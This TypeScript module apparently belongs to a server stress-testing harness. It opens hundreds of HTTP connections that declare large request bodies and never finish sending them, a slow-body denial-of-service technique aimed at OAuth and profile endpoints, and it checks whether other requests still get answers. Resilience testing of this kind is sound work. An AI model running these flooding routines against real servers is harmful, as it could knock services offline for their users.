// Request bodies that never end: the server keeps what it received until it times out. Sent at about 120 MB per second,
// the rate of a fast network; at a higher rate, only copying inside this machine would be measured.
import { connect } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { send, inParallel, localAddressFor, type Attack, type Target, type Tally } from './target.ts'

const mib = 1024 * 1024
const seconds = 12
/** The duration of sending one body; the starts are spread over the same time again. */
const sendingMs = 2_500
/** `net`: the third number of the client addresses. */
type UnfinishedRequest = { head: string; part: Buffer; count: number; net: number; addresses?: number }

/** Sends `count` bodies in parallel from several addresses, and closes all connections at the end. */
async function keepOpen(
  { url }: Target,
  { head, part, count, net, addresses = 20 }: UnfinishedRequest,
  tally: Tally,
  signal: AbortSignal,
): Promise<void> {
  const until = AbortSignal.any([signal, AbortSignal.timeout(seconds * 1000)])
  await inParallel(count, async (at) => {
    await pause((at * sendingMs) / count, undefined, { signal: until }).catch(() => {})
    if (until.aborted) return
    let text = ''
    const socket = connect({
      host: url.hostname.replace(/^\[|\]$/g, ''),
      port: Number(url.port || 80),
      ...localAddressFor(url, `127.0.${net}.${(at % addresses) + 1}`),
    })
    socket.on('data', (data) => (text += data.toString('latin1')))
    socket.on('error', () => {})
    socket.write(head)
    const pieces = Math.ceil(part.length / mib)
    for (let piece = 0; piece < pieces && !until.aborted && !socket.destroyed; piece += 1) {
      socket.write(part.subarray(piece * mib, (piece + 1) * mib))
      await pause(sendingMs / pieces, undefined, { signal: until }).catch(() => {})
    }
    if (!until.aborted) await new Promise((resolve) => until.addEventListener('abort', resolve, { once: true }))
    const status = /^HTTP\/1\.1 (\d+)/.exec(text)?.[1]
    const word = /"error":"(\w+)"/.exec(text)?.[1]
    tally.add(status ? `${status} ${word ?? ''}`.trim() : socket.closed ? 'closed' : 'still waited for')
    socket.destroy()
  })
}
const head = ({ url }: Target, path: string, fields: Record<string, string>) =>
  `POST ${path} HTTP/1.1\r\n${Object.entries({ host: url.host, ...fields })
    .map(([name, value]) => `${name}: ${value}\r\n`)
    .join('')}\r\n`
function unfinishedImage(site: Target, token: string | null): UnfinishedRequest {
  const opening = Buffer.from(
    '--x\r\ncontent-disposition: form-data; name="man_photo"; filename="a.jpg"\r\ncontent-type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0',
    'latin1',
  )
  const fields = {
    'content-type': 'multipart/form-data; boundary=x',
    'content-length': String(9.5 * mib),
    ...(token && { authorization: `Bearer ${token}` }),
  }
  return {
    head: head(site, '/org/myinfo_photo', fields),
    part: Buffer.concat([opening, Buffer.alloc(9 * mib, 'a')]),
    count: 60,
    net: token ? 4 : 3,
  }
}
const formHead = (site: Target, path: string, length: number, token: string | null = null) =>
  head(site, path, {
    'content-type': 'application/x-www-form-urlencoded',
    'content-length': String(length),
    ...(token && { authorization: `Bearer ${token}` }),
  })
/** 48 fields of 100 kB, of a multipart form without an end. */
function unfinishedFields(site: Target, path: string, token: string | null): UnfinishedRequest {
  const field = (at: number) => `--x\r\ncontent-disposition: form-data; name="f${at}"\r\n\r\n${'a'.repeat(100_000)}\r\n`
  return {
    head: head(site, path, {
      'content-type': 'multipart/form-data; boundary=x',
      'content-length': String(6 * mib),
      ...(token && { authorization: `Bearer ${token}` }),
    }),
    part: Buffer.from(Array.from({ length: 48 }, (_, at) => field(at)).join('')),
    count: 150,
    net: token ? 8 : 7,
  }
}
/** How the server responds to a form of 60 kB from another address meanwhile. */
async function requestMeanwhile(site: Target, signal: AbortSignal): Promise<string> {
  await pause(2 * sendingMs + 500, undefined, { signal })
  const body = `token=${'x'.repeat(60_000)}`
  const { outcome } = await send(site, { path: '/oauth/revoke', body, from: '127.0.9.1', signal })
  return `a form of somebody else was answered ${outcome}`
}

const attack = (name: string, make: (site: Target) => UnfinishedRequest, needs?: Attack['requires']): Attack => ({
  name,
  topic: 'unfinished',
  ...(needs && { requires: needs }),
  prepare(site) {
    const made = make(site)
    return async (tally, signal) => {
      const [other] = await Promise.all([requestMeanwhile(site, signal), keepOpen(site, made, tally, signal)])
      return other
    }
  },
})

export const unfinishedBodies: Attack[] = [
  attack('60 unfinished pictures of 9 MB, no token', (site) => unfinishedImage(site, null)),
  attack('60 unfinished pictures of 9 MB, junk token', (site) => unfinishedImage(site, 'junk'.repeat(10))),
  attack('200 unfinished forms of 1 MiB', (site) => ({
    head: formHead(site, '/oauth/authorize', mib),
    part: Buffer.alloc(mib - 1, 'a'),
    count: 200,
    net: 5,
  })),
  attack('1,040 unfinished forms of 64 KiB from ten addresses', (site) => ({
    head: formHead(site, '/oauth/revoke', 64 * 1024),
    part: Buffer.alloc(64 * 1024 - 1, 'a'),
    count: 1_040,
    net: 6,
    addresses: 10,
  })),
  attack(
    '64 unfinished forms of 1 MiB of the account',
    (site) => ({
      head: formHead(site, '/org/upd_myinfo', mib, site.token),
      part: Buffer.alloc(mib - 1, 'a'),
      count: 64,
      net: 10,
    }),
    'a token',
  ),
  attack('150 unfinished multipart forms of 48 fields, no token', (site) =>
    unfinishedFields(site, '/etc/regi_question_sys', null),
  ),
  attack(
    '150 unfinished multipart forms of 48 fields, of the account',
    (site) => unfinishedFields(site, '/org/myinfo', site.token),
    'a token',
  ),
]
